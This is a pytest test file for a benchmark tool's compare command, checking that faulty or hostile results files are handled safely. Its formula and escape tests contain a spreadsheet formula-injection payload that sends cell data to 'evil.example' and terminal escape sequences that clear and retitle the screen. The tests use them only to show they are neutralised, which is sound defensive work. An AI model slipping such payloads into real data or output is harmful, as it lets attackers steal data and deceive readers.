"""`vorobench compare` cannot be passed, crashed or turned against its reader by hostile inputs:
zero or missing timings, an unchecked NEW, a case run twice, names that are spreadsheet
formulas or terminal escapes, and output paths that cannot be written.

Fault doubles: small recorded results files (no timing run), each with one such fault.
"""

from __future__ import annotations

import json
import math
import xml.etree.ElementTree as ET

import pandas as pd
import pytest

from vorobench.cli import main
from vorobench.harness import regress
from vorobench.harness.results import ResultsFile

CASE = "a uniform n=100 seed=0"


def _rows(impl="a", times=(1.0, 1.01, 1.02), verdict="exact", run_id="r1", n=100) -> list[dict]:
    """One case's recorded rows, one per repeat."""
    return [{"run_id": run_id, "impl": impl, "dataset": "uniform", "n": n, "seed": 0, "repeat": i, "status": "ok",
             "verdict": verdict, "time_s": t} for i, t in enumerate(times)]


def _write(path, rows: list[dict]) -> str:
    ResultsFile(path).append(rows)
    return str(path)


def _two_cases(**first) -> list[dict]:
    """Case ``a`` (changed by ``first``) and an ordinary case ``b`` that compares cleanly."""
    return _rows(**first) + _rows(impl="b")


# ------------------------------------------------------------------ (a), (b) timings that say nothing

@pytest.mark.parametrize("side", ["BASE", "NEW"])
@pytest.mark.parametrize("bad", [0.0, -1.0, math.inf, math.nan], ids=["zero", "negative", "inf", "nan"])
def test_a_side_without_usable_times_is_not_comparable_and_fails(side, bad, tmp_path, capsys):
    good, broken = _two_cases(), _two_cases(times=(bad, bad, bad))
    base, new = (broken, good) if side == "BASE" else (good, broken)
    code = main(["compare", _write(tmp_path / "base.csv", base), _write(tmp_path / "new.csv", new)])
    captured = capsys.readouterr()
    assert code == 1, captured.out
    assert "Traceback" not in captured.err
    assert "1 case(s) not comparable" in captured.out
    assert f"{CASE}: {side} has no usable timing" in captured.out
    assert "no regression" not in captured.out


def test_all_nan_new_timings_are_not_counted_as_compared(tmp_path):
    base = pd.DataFrame(_rows())
    new = pd.DataFrame(_rows(times=(math.nan,) * 3))
    comparison = regress.compare_runs(base, new)
    assert comparison.compared == [] and not comparison.passed
    (case,) = comparison.not_comparable
    assert case.flagged and "NEW has no usable timing" in case.why_not_comparable


def test_a_few_zero_repeats_are_left_out_not_fatal():
    base = pd.DataFrame(_rows(times=(0.0, 1.0, 1.01, 1.02)))
    (change,) = regress.compare_runs(base, pd.DataFrame(_rows())).changes
    assert change.base_repeats == 3 and change.ratio == pytest.approx(1.0, abs=0.02)


# ------------------------------------------------------------------ (c) correctness not checked

def test_new_that_no_longer_checks_correctness_fails(tmp_path, capsys):
    base = _write(tmp_path / "base.csv", _two_cases())
    new = _write(tmp_path / "new.csv", _rows(verdict="skipped") + _rows(impl="b", verdict="skipped"))
    junit = tmp_path / "c.xml"
    assert main(["compare", base, new, "--junit", str(junit)]) == 1
    out = capsys.readouterr().out
    assert "correctness not checked in 2 of 2 compared case(s)" in out and "checked in BASE" in out
    failures = ET.parse(junit).getroot().findall(".//failure")
    assert len(failures) == 2 and all("correctness not checked in NEW" in f.get("message") for f in failures)


def test_unchecked_on_both_sides_passes_on_timings_but_says_so(tmp_path, capsys):
    unchecked = _rows(verdict="skipped") + _rows(impl="b", verdict="skipped")
    base, new = _write(tmp_path / "base.csv", unchecked), _write(tmp_path / "new.csv", unchecked)
    junit, md = tmp_path / "c.xml", tmp_path / "c.md"
    assert main(["compare", base, new, "--junit", str(junit), "--markdown", str(md)]) == 0
    out = capsys.readouterr().out
    assert "correctness not checked" in out.splitlines()[-1]         # the verdict line itself says it
    assert md.read_text().startswith("## vorobench compare: no regression (correctness not checked)")
    skipped = [c for c in ET.parse(junit).getroot().iter("testcase") if c.find("skipped") is not None]
    assert [c.get("name") for c in skipped] == ["correctness checked in NEW"]


# ------------------------------------------------------------------ (d) a case run twice

@pytest.mark.parametrize("side", ["base", "new"])
@pytest.mark.parametrize("how", ["same run twice", "two runs"])
def test_a_case_run_twice_is_an_error_naming_it(side, how, tmp_path, capsys):
    again = _rows(run_id="r1" if how == "same run twice" else "r2")
    files = {"base": _two_cases(), "new": _two_cases()}
    files[side] = files[side] + again
    code = main(["compare", _write(tmp_path / "base.csv", files["base"]), _write(tmp_path / "new.csv", files["new"])])
    captured = capsys.readouterr()
    assert code == 2 and captured.out == ""
    (line,) = captured.err.strip().splitlines()
    assert side.upper() in line and f"{side}.csv" in line and f"case {CASE} is there twice" in line


# ------------------------------------------------------------------ (e), (f) names as formulas, escapes

@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_a_name_a_spreadsheet_would_run_is_quoted_in_markdown(start, tmp_path):
    impl = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    rows = _rows(impl=impl)
    md = tmp_path / "c.md"
    main(["compare", _write(tmp_path / "b.csv", rows), _write(tmp_path / "n.csv", rows), "--markdown", str(md)])
    table = [line for line in md.read_text().splitlines() if "HYPERLINK" in line]
    assert len(table) == 1
    first_cell = table[0][len("| "):]
    assert first_cell.startswith("'") and "HYPERLINK" in first_cell.split(" | ")[0]


ANSI = "\x1b[2J\x1b[31mevil\x1b]0;pwned\x07\x9b1m"


def test_terminal_escapes_in_names_reach_the_console_as_text(tmp_path, capsys):
    base = _rows(impl=ANSI) + _rows(impl="lost" + ANSI) + _rows(impl="one", times=(1.0,))
    new = _rows(impl=ANSI) + _rows(impl="one", times=(1.0,))
    main(["compare", _write(tmp_path / "b\x1b[5m.csv", base), _write(tmp_path / "n.csv", new)])
    captured = capsys.readouterr()
    for text in (captured.out, captured.err):
        assert not any(ch in text for ch in "\x1b\x07\x9b")
    assert "\\x1b[31mevil" in captured.out                           # the table's row, readable
    assert "lost\\x1b[2J" in captured.out                            # the list of cases NEW lacks
    assert "b\\x1b[5m.csv" in captured.out                           # the title


# ------------------------------------------------------------------ (g) outputs checked first

def _unwritable(kind: str, tmp_path):
    if kind == "a directory":
        return tmp_path
    (tmp_path / "file").write_text("x")
    return tmp_path / "file" / "out"                                 # under a file: no folder can be made


@pytest.mark.parametrize("kind", ["a directory", "under a file"])
@pytest.mark.parametrize("option", ["--junit", "--markdown", "--json"])
def test_an_output_that_cannot_be_written_is_refused_before_comparing(option, kind, tmp_path, capsys):
    rows = _two_cases()
    base, new = _write(tmp_path / "b.csv", rows), _write(tmp_path / "n.csv", rows)
    target = _unwritable(kind, tmp_path)
    report = tmp_path / "report.json"
    extra = [] if option == "--json" else ["--json", str(report)]
    assert main(["compare", base, new, option, str(target), *extra]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and not report.exists()                # nothing was compared or written
    (line,) = captured.err.strip().splitlines()
    assert option in line and str(target) in line


def test_json_into_a_new_folder_is_written(tmp_path):
    rows = _two_cases()
    report = tmp_path / "new" / "folder" / "c.json"
    assert main(["compare", _write(tmp_path / "b.csv", rows), _write(tmp_path / "n.csv", rows),
                 "--json", str(report)]) == 0
    assert json.loads(report.read_text())["compared"] == 2
